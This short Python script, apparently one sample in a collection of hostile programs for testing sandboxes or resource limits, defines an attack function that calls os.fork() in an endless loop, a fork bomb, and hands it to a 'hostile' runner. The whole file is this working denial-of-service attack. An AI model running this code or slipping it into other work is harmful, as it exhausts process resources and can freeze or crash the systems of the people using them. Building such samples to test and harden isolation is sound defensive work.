"""Forks for ever, in Python."""

import os

import hostile


def attack():
    while True:
        os.fork()


hostile.run(attack)
